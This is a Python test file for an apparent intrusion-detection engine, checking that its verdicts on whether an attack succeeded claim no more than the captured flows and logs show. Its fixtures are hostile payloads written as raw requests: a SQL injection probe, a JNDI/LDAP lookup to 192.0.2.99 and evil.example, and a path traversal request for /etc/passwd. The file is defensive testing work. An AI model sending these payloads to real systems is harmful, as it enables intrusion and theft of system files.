"""Tests of what is said about success: what the evidence says, and never more."""

from __future__ import annotations

import re
from dataclasses import replace
from typing import Any

import pytest

from engine.agent.judgement import judge
from engine.agent.judging.outcome import FLOWS_KEPT, SHOWN, outcome_of
from engine.agent.judging.scene import Scene
from engine.agent.judging.weights import TABLE
from engine.agent.tongue import Tongue
from engine.casebook import CASE_FLOWS
from engine.types import Finding, FiveTuple, Flow, Login, Logins, ProcessFacts, SocketOwner
from tests.engine.agent.cases import LOCAL, TARGET, case, detection, flow

PROBE = b"GET /?id=1'+union+select+1 HTTP/1.1\r\nHost: shop.example\r\n\r\n"
LOOKUP = b"GET /?q=${jndi:ldap://192.0.2.99:1389/a} HTTP/1.1\r\nHost: shop.example\r\n\r\n"
GONE = b"HTTP/1.1 404 Not Found\r\nContent-Length: 4\r\n\r\ngone"
BAD = b"HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n"
PAGE = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<title>Shop</title>"
ACCOUNTS = b"HTTP/1.1 200 OK\r\n\r\nroot:x:0:0:root:/root:/bin/bash\n"
UNSEEN = f"no connection from this host to {TARGET} seen"


def exchange(number: int, sent: bytes, back: bytes, **changes: Any) -> Flow:
    made = flow(sent, flow_id=f"1:{number}=", head=(sent, back), payload_bytes=(len(sent), len(back)))
    return replace(made, **changes)


def told(*flows: Flow, event_class: str = "sql_injection", subjects: tuple[Any, ...] = ()) -> str:
    """Return what is said of some flows, of which the first raised the alert."""
    subject = case(flows[0].head[0], event_class=event_class)
    alert = replace(subject.alerts[0], flow=flows[0], detection=detection(event_class=event_class, spans=()))
    subject = replace(subject, alerts=(alert,), flows=flows)
    judgement = judge(subject, subjects)
    return outcome_of(Scene(subject, subjects), judgement.reasons, judgement.conclusion).words


def own(number: int = 9, **changes: Any) -> Flow:
    back = flow(b"", flow_id=f"1:own{number}=", five_tuple=FiveTuple(LOCAL, 50000, TARGET, 1389, "tcp"))
    return replace(back, **{"head": (b"", b""), "payload_bytes": (0, 0)} | changes)


def test_requests_that_were_all_refused_are_said_so_with_what_was_not_seen() -> None:
    words = told(exchange(1, PROBE, GONE), exchange(2, PROBE, BAD))
    assert words == f"every request seen was refused (400, 404); {UNSEEN}"


def test_a_refusal_before_answers_that_were_not_kept_is_no_refusal_of_all() -> None:
    words = told(exchange(1, PROBE, GONE, payload_bytes=(len(PROBE), 5_000)))
    assert words.startswith("not known: every answer seen is a refusal (404), and not all were seen")


def test_a_request_that_hangs_beside_refused_ones_is_no_refusal_of_all() -> None:
    words = told(exchange(1, PROBE, GONE), exchange(2, PROBE, b""))
    assert words.startswith("not known: every answer seen is a refusal (404), and not all were seen")


def test_one_served_request_among_refused_ones_is_told() -> None:
    assert told(exchange(1, PROBE, GONE), exchange(2, PROBE, PAGE)).startswith(
        "no sign that it worked: answered with ordinary pages (200), refused (404)"
    )


@pytest.mark.parametrize("event_class", ["ssrf", "brute_force", "web_exploit", "webshell"])
def test_an_ordinary_page_clears_nothing_where_success_looks_like_one(event_class: str) -> None:
    assert told(exchange(1, PROBE, PAGE), event_class=event_class).startswith("not known: ")


def test_an_answer_that_an_attack_would_bring_is_a_sign() -> None:
    words = told(exchange(1, b"GET /?f=../../etc/passwd HTTP/1.1\r\n\r\n", ACCOUNTS), event_class="file_inclusion")
    assert words.startswith(f"signs that it worked: {TABLE['answer_command_output'].words}; answered 200; ")


def test_a_connection_of_this_host_to_the_sender_after_it_is_a_sign() -> None:
    words = told(exchange(1, PROBE, GONE), own(first_seen=100.5, handshake=True))
    assert words.startswith(f"signs that it worked: {TABLE['turned_to_sender'].words}; ")
    assert words.endswith(f"connections from this host to {TARGET}: 1, completed: 1")


def test_nothing_is_claimed_of_all_where_more_flows_may_have_been_than_are_kept() -> None:
    words = told(*(exchange(number, PROBE, GONE) for number in range(FLOWS_KEPT)))
    assert words.startswith(f"not known: every request among the last {FLOWS_KEPT} flows was refused (404)")
    assert words.endswith(f"no connection from this host to {TARGET} among the last {FLOWS_KEPT} flows")
    assert FLOWS_KEPT == CASE_FLOWS


def test_where_a_lookup_points_elsewhere_it_is_said_that_nobody_looked_there() -> None:
    words = told(exchange(1, LOOKUP, PAGE), event_class="web_exploit")
    assert words.startswith("not known: ")
    assert words.endswith("connections to 192.0.2.99, which it names, were not looked for")
    named = told(exchange(1, LOOKUP.replace(b"192.0.2.99", b"evil.example"), GONE), event_class="web_exploit")
    assert named.endswith("connections to the host that it names were not looked for")
    assert "evil" not in named


def test_what_is_encrypted_or_unanswered_is_not_known() -> None:
    sealed = exchange(1, b"\x16\x03\x01\x02\x00", b"\x16\x03\x03\x02\x00", app="tls")
    assert told(sealed) == f"not known: the exchange is encrypted; {UNSEEN}"
    assert told(exchange(1, PROBE, b"")) == f"not known: no answer was seen; {UNSEEN}"


@pytest.mark.parametrize(
    ("ok", "words"),
    [
        (False, f"no sign that it worked: the exchange is encrypted; no login from {TARGET} accepted in the log"),
        (True, f"a login from {TARGET} was accepted in the log after it began"),
    ],
    ids=["refused", "accepted"],
)  # fmt: skip
def test_guesses_at_a_shell_are_answered_by_the_log(ok: bool, words: str) -> None:
    guesses = exchange(1, b"SSH-2.0-x\r\n", b"SSH-2.0-y\r\n", app="ssh")
    log = Logins(Finding.FOUND, (Login("root", TARGET, ok, "password", 12, 100.0, 200.0),))
    assert words in told(guesses, event_class="brute_force", subjects=(log,))


def test_a_log_that_could_not_be_read_is_no_log_without_logins() -> None:
    guesses = exchange(1, b"SSH-2.0-x\r\n", b"SSH-2.0-y\r\n", app="ssh")
    words = told(guesses, event_class="brute_force", subjects=(Logins(Finding.NOT_PERMITTED),))
    assert words.startswith("not known: the exchange is encrypted; the log of logins tells nothing")


def test_a_shell_below_the_server_is_a_sign_whatever_was_answered() -> None:
    owner = SocketOwner(Finding.FOUND, 77, 1.0, "nginx")
    served = ProcessFacts(
        Finding.FOUND,
        77,
        1,
        1.0,
        33,
        "www",
        "nginx",
        "/usr/sbin/nginx",
        children=("78 sh -c id",),
        unit="nginx.service",
    )
    words = told(exchange(1, PROBE, GONE), subjects=(owner, served))
    assert words.startswith("signs that it worked: ")
    calm = told(exchange(1, PROBE, GONE), subjects=(owner, replace(served, children=())))
    assert calm.endswith("; no child of the process that answered seen")


def test_what_this_host_began_itself_is_told_as_it_is() -> None:
    words = told(own(1, head=(PROBE, PAGE), handshake=True), own(2, handshake=False), event_class="c2_beacon")
    assert words == f"connections from this host to {TARGET}: 2, completed: 1; answered 200"


def test_every_part_of_the_longest_outcome_is_told_in_chinese_too() -> None:
    owner = SocketOwner(Finding.FOUND, 77, 1.0, "nginx")
    served = ProcessFacts(Finding.FOUND, 77, 1, 1.0, 33, "www", "nginx", "/usr/sbin/nginx", unit="nginx.service")
    log = Logins(Finding.FOUND, (Login("root", TARGET, True, "password", 1, 100.0, 200.0),))
    sealed = exchange(2, b"\x16\x03\x01\x02\x00", b"\x16\x03\x03\x02\x00", app="tls")
    words = told(exchange(1, LOOKUP, PAGE), sealed, event_class="web_exploit", subjects=(owner, served, log))
    assert words.count("; ") == 5
    retold = Tongue("zh").retold(f"Outcome: {words}.")
    assert retold.count("；") == 5
    assert not re.search(r"[a-z]{3}", retold.replace("HTTP", ""))


def test_every_sign_is_a_consideration_against_the_target() -> None:
    assert TABLE.keys() >= SHOWN
    assert all(TABLE[name].weight > 0 for name in SHOWN)
